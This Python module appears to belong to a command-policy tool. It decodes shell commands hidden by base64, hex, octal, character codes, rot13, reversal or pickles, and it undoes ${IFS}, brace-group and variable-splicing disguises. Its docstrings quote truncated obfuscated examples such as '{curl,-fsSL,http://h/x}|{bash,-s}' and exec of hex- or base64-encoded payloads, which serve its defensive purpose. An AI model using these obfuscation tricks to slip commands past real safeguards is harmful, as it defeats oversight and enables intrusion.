"""Command text hidden by an encoding in a command's words: the effect behind ``echo
'exec sh -c [binary decode base64 Y3VybCAtcyAx…]' | tclsh``, ``awk 'BEGIN{split("99,117,
114,…",c,",");…system(s)}'`` or ``python3 -c "exec(bytes.fromhex('6f73…'))"``.

What a word decodes to is decided by the policy as a shell line (its rules, paths, writes
and hosts: :meth:`~corral.policy.Policy.decide_command`) when it reads as text a person
could have typed. Found:

* base64 (and base64url) runs of 16 or more characters, padded or not;
* hex: runs of 16 or more hex digits (``bytes.fromhex('…')``, ``xxd -r -p``) and ``\\xNN``
  escape runs of 8 or more; octal ``\\NNN`` escape runs of 8 or more (``printf``);
* base64 of zlib-compressed text (``exec(zlib.decompress(b64decode('eJz…')))``), base85,
  Ascii85 and rot13 of a quoted string when the text decodes one (``b85decode``,
  ``a85decode``, ``'rot13'``), base32 runs when the text decodes base32, a quoted string
  reversed when the text reverses one (``system scalar reverse "hs | …"``), and base64
  read backwards (``decode_base64(scalar reverse q{…})``);
* character codes: 8 or more decimal numbers in 9-126 separated by commas (``String.
  fromCharCode(99,117,…)``, ``chr`` lists, awk ``split``/``sprintf("%c")``);
* serialized objects given to a deserializer (``pickle.loads(b64decode('gAJj…'))``,
  ``marshal``, ``dill``, PHP's ``unserialize``): the readable runs among their binary
  opcodes (a pickle names ``posix system`` and carries the command as a string).

Only text that decodes to printable ASCII with a space or a ``/`` in it and at least one
letter counts (a hash, a key or compressed data is not a command). At most
:data:`MAX_DECODED` payloads of :data:`MAX_PAYLOAD` characters are returned per text,
from its first 64 KiB: the cost stays linear and bounded on hostile input (every pattern
is RE2). A payload built at run time (string joins, a key fetched later) is not seen: the
native tiers decide each program as it starts, and the monitor watches.
"""

from __future__ import annotations

import base64
import binascii
import bz2
import contextlib
import lzma
import zlib
from typing import Final

from .. import saferegex

__all__ = ["MAX_DECODED", "MAX_PAYLOAD", "decoded_commands", "shell_variants"]

MAX_DECODED: Final = 4
MAX_PAYLOAD: Final = 4096
_MAX_TEXT: Final = 65536
_BASE64: Final = saferegex.compile(r"[A-Za-z0-9+/_-]{16,}={0,2}")
_HEX: Final = saferegex.compile(r"(?:^|[^A-Za-z0-9])((?:[0-9A-Fa-f]{2}){8,})(?:$|[^A-Za-z0-9])")
_HEX_ESCAPES: Final = saferegex.compile(r"(?:\\x[0-9A-Fa-f]{2}){8,}")
_LONG_WORD: Final = saferegex.compile(r"[A-Za-z0-9+/=_-]{16}")
_HEX_WORD: Final = saferegex.compile(r"[0-9A-Fa-f]+")
_OCTAL_ESCAPES: Final = saferegex.compile(r"(?:\\[0-7]{3}){8,}")
_CHAR_CODES: Final = saferegex.compile(r"(?:\b\d{1,3}\s*,\s*){7,}\d{1,3}\b")


def _readable(data: bytes) -> str | None:
    """``data`` as text when it reads as a command line: printable ASCII (tabs and
    newlines allowed), a letter, and a space or a slash."""
    if not data or len(data) > MAX_PAYLOAD:
        return None
    try:
        text = data.decode("ascii")
    except UnicodeDecodeError:
        return None
    if not all(32 <= ord(c) < 127 or c in "\t\n\r" for c in text):
        return None
    if not any(c.isalpha() for c in text) or not (" " in text or "/" in text):
        return None
    return text


def _b64(word: str) -> bytes | None:
    body = word.rstrip("=")
    urlsafe = "-" in body or "_" in body
    if len(body) % 4 == 1 or (urlsafe and ("+" in body or "/" in body)):
        return None
    padded = body + "=" * (-len(body) % 4)
    try:
        return base64.b64decode(padded, altchars=b"-_" if urlsafe else None, validate=True)
    except (binascii.Error, ValueError):
        return None


def _unzip(data: bytes | None) -> bytes | None:
    """``data`` decompressed when it is zlib, gzip, bzip2 or xz data (``zlib.decompress(
    b64decode(…))``, ``bz2.decompress``, ``lzma.decompress``), at most
    :data:`MAX_PAYLOAD` bytes of it."""
    if not data or len(data) < 2:
        return data
    try:
        if data[0] == 0x78 and (data[0] * 256 + data[1]) % 31 == 0:
            return zlib.decompressobj().decompress(data, MAX_PAYLOAD)
        if data[:2] == b"\x1f\x8b":
            return zlib.decompressobj(31).decompress(data, MAX_PAYLOAD)
        if data[:3] == b"BZh":
            return bz2.BZ2Decompressor().decompress(data, MAX_PAYLOAD)
        if data[:6] == b"\xfd7zXZ\x00":
            return lzma.LZMADecompressor().decompress(data, MAX_PAYLOAD)
    except (zlib.error, OSError, EOFError, lzma.LZMAError, ValueError):
        return data
    return data


def _inflate_raw(data: bytes | None) -> bytes | None:
    """``data`` inflated as raw deflate (``zlib.decompress(…, -15)``, ``inflateRawSync``),
    or None."""
    if not data:
        return None
    try:
        return zlib.decompressobj(-15).decompress(data, MAX_PAYLOAD)
    except zlib.error:
        return None


def _rot13(text: str) -> str:
    return text.translate(_ROT13)


_ROT13: Final = str.maketrans(
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz",
    "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm",
)
#: code that turns bytes into objects, running what they name (``pickle.loads(b64decode(…))``)
_DESERIALIZE: Final = saferegex.compile(
    r"\b(?:c?pickle|_pickle|dill|cloudpickle|marshal|jsonpickle|shelve)\.(?:loads?|decode|Unpickler)\b"
    r"|\btorch\.load\b|\bjoblib\.load\b|\bunserialize\(|Marshal\.load"
)
#: code that reverses a string (``scalar reverse "…"``, ``s[::-1]``, ``.reverse()``)
_REVERSES: Final = saferegex.compile(r"\breverse\b|\[::-1\]|\bstrrev\(|\.reverse\(")
#: printable ASCII runs of 8 or more bytes in binary data
_PRINTABLE_RUN: Final = saferegex.compile(rb"[\x20-\x7e]{8,}")
#: single-quoted strings, double-quoted ones and Perl's ``q{…}``, each on its own (a
#: string in one kind of quotes is often inside a string in the other: ``-c "…('…')"``)
_QUOTES: Final = (
    saferegex.compile(r"'([^'\n]{8,4096})'"),
    saferegex.compile(r"\"([^\"\n]{8,4096})\""),
    saferegex.compile(r"\bq\{([^{}\n]{8,4096})\}"),
)
#: base32 runs (``base64.b32decode('MNUW…')``, ``base32 -d``), upper or lower case
_BASE32: Final = saferegex.compile(r"[A-Za-z2-7]{16,}={0,6}")


def decoded_commands(text: str) -> list[str]:
    """The command lines hidden by an encoding in ``text`` (see the module docstring)."""
    text = text[:_MAX_TEXT]
    found: list[str] = []
    if (
        "," not in text
        and "\\" not in text
        and not _LONG_WORD.search(text)
        and not _REVERSES.search(text)
    ):
        return found  # nothing long enough to hide a command (most words)

    loads = _DESERIALIZE.search(text) is not None
    raw_deflate = "inflateRaw" in text or "-15" in text or "MAX_WBITS" in text

    def keep(data: bytes | None, whole: bool = True) -> None:
        if data is None or len(found) >= MAX_DECODED:
            return
        payload = _readable(data)
        if payload is None and whole and loads and len(data) <= MAX_PAYLOAD:
            # a serialized object (a pickle) carries its command as a string among binary
            # opcodes: the readable runs inside it, as ``strings`` would show them
            for run in _PRINTABLE_RUN.findall(data):
                keep(run, False)
            return
        if payload is not None and payload not in found:
            found.append(payload)

    if len(text) >= 16:
        for m in _BASE64.finditer(text):
            word = m.group(0)
            # text in base64 mixes cases; a path, a word, a number or hex does not
            if word.islower() or word.isupper() or _HEX_WORD.fullmatch(word):
                continue
            raw = _b64(word)
            keep(_unzip(raw))
            if raw_deflate:
                keep(_inflate_raw(raw))
            if len(found) >= MAX_DECODED:
                return found
        for m in _HEX.finditer(text):
            try:
                keep(bytes.fromhex(m.group(1)))
            except ValueError:
                continue
        if "\\x" in text:
            for m in _HEX_ESCAPES.finditer(text):
                keep(bytes.fromhex(m.group(0).replace("\\x", "")))
        if "\\" in text:  # printf '\167\147\145\164 …'
            for m in _OCTAL_ESCAPES.finditer(text):
                codes = [int(o, 8) for o in m.group(0).split("\\")[1:]]
                if all(c < 256 for c in codes):
                    keep(bytes(codes))
        if _REVERSES.search(text) is not None:  # perl's reverse "hs | …", s[::-1]
            for m in _quoted_runs(text):
                backwards = _quoted(m)[::-1]
                keep(backwards.encode("ascii", "replace"))
                keep(_unzip(_b64(backwards.strip())))  # decode_base64(scalar reverse q{…})
        a85 = "a85decode" in text or "ascii85" in text.lower()
        if "b85decode" in text or a85 or "rot13" in text or "rot_13" in text:
            for m in _quoted_runs(text):
                quoted = _quoted(m)
                if "b85decode" in text:
                    with contextlib.suppress(ValueError):
                        keep(base64.b85decode(quoted))
                if a85:
                    with contextlib.suppress(ValueError):
                        keep(base64.a85decode(quoted, adobe=quoted.startswith("<~")))
                if "rot13" in text or "rot_13" in text:
                    keep(_rot13(quoted).encode("ascii", "replace"))
        if "b32decode" in text or "base32" in text:
            for m in _BASE32.finditer(text):
                word = m.group(0).upper().rstrip("=")
                with contextlib.suppress(binascii.Error, ValueError):
                    keep(base64.b32decode(word + "=" * (-len(word) % 8)))
    if "," in text:
        for m in _CHAR_CODES.finditer(text):
            codes = [int(n) for n in m.group(0).replace(" ", "").split(",")]
            if all(9 <= c < 127 for c in codes):
                keep(bytes(codes))
    return found[:MAX_DECODED]


def _quoted_runs(text: str) -> list[saferegex.Match[str]]:
    """The quoted strings of ``text`` in each kind of quotes (at most 64 of each)."""
    runs: list[saferegex.Match[str]] = []
    for rx in _QUOTES:
        for i, m in enumerate(rx.finditer(text)):
            if i >= 64:
                break
            runs.append(m)
    return runs


def _quoted(m: saferegex.Match[str]) -> str:
    return next((g for g in m.groups() if g), "")


#: ``${IFS}`` / ``$IFS`` unquoted: the shell splits words there
_IFS: Final = saferegex.compile(r"\$\{IFS\}|\$IFS\b")
#: a brace group of words at a command's place: ``{curl,-fsSL,http://h/x}|{bash,-s}``
_BRACE_WORDS: Final = saferegex.compile(r"(^|[\s;|&(`])\{([^{}\s,]+(?:,[^{}\s]*)+)\}")
#: a literal assignment at a statement's start: ``c=cu;r=rl;s=s\h;$c$r …``
_ASSIGN: Final = saferegex.compile(
    r"([A-Za-z_][A-Za-z0-9_]{0,31})=('[^'\n]{0,256}'|\"[^\"$`\n]{0,256}\"|[^\s;&|$`'\"()]{0,256})"
)
_MAX_VARS: Final = 16
#: builtins that assign the words after them (``export A=curl B=-fsSL``)
_DECLARES: Final = frozenset({"export", "declare", "typeset", "local", "readonly"})


def shell_variants(script: str) -> list[str]:
    """``script`` as the shell will see it once it has undone a disguise: ``${IFS}``
    split as a space, brace groups at a command's place as words (``{wget,-qO-,h}``),
    literal variables put in (``a=ba;b=sh;$a$b -c …`` is ``bash -c …``, ``export A=curl``
    assigns too, ``${!v}`` is the variable ``v`` names). Empty when none
    applies. Each variant is decided as the line itself, the worse counting."""
    if len(script) > _MAX_TEXT:
        return []
    text = script
    if "IFS" in text:
        text = _IFS.sub(" ", text)
    if "{" in text and "," in text:
        text = _BRACE_WORDS.sub(lambda m: m.group(1) + m.group(2).replace(",", " "), text)
    if "=" in text and "$" in text:
        values: dict[str, str] = {}
        for statement in text.replace("&&", ";").replace("\n", ";").split(";"):
            words = statement.split()  # export A=curl B=-fsSL: each one
            words = words[1:] if words[:1] and words[0] in _DECLARES else [statement.strip()]
            for word in words:
                m = _ASSIGN.fullmatch(word)
                if m is None or len(values) >= _MAX_VARS:
                    continue
                value = m.group(2)
                if value[:1] in ("'", '"'):
                    value = value[1:-1]
                values[m.group(1)] = value.replace("\\", "")
        for name, value in values.items():  # ${!v}: the variable v names (v=A; ${!v} is $A)
            if value in values:
                text = text.replace("${!" + name + "}", values[value])
        for name, value in values.items():
            text = _put(text.replace("${" + name + "}", value), "$" + name, value)
    return [text] if text != script else []


def _put(text: str, token: str, value: str) -> str:
    """``text`` with ``token`` (``$name``) replaced by ``value`` where the name ends there
    (``$a`` in ``$a$b``, not in ``$ab``)."""
    out: list[str] = []
    i = 0
    while True:
        j = text.find(token, i)
        if j < 0:
            out.append(text[i:])
            return "".join(out)
        end = j + len(token)
        if end < len(text) and (text[end].isalnum() or text[end] == "_"):
            out.append(text[i:end])
        else:
            out.append(text[i:j])
            out.append(value)
        i = end
